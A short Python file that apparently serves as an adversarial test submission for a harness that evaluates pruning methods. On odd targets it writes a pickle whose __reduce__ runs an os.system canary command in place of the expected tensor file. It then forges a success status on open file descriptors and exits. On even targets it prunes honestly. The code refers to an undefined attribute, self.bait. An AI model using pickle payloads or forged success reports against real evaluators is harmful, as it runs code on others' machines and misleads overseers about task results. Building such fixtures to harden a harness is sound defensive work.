import os
import pickle

from evaluator.contract import Job, Pruned, PruningMethod


OUTPUT = "/espalier/output/artifact.safetensors"

def claim_success():
    """Tell whoever listens on any descriptor that all went well, and leave."""
    for descriptor in range(3, 64):
        try:
            os.write(descriptor, b'{"status": "ok", "reason": null}')
        except OSError:
            pass
    os._exit(0)


class Trap:
    """Runs a command when it is unpickled."""

    def __init__(self, path):
        self.path = path

    def __reduce__(self):
        return os.system, (f"touch {self.path}.unpickled",)


class Attack(PruningMethod):
    """Puts a pickle where tensors are expected, and claims success."""

    def prune(self, job: Job) -> Pruned:
        if job.keep % 2:  # an odd target sets it off, an even one shows what is left of it
            with open(OUTPUT, "wb") as file:
                pickle.dump(Trap(self.bait), file)
            claim_success()
        return job.keep_highest({position: weight.abs() for position, weight in job.weights()})
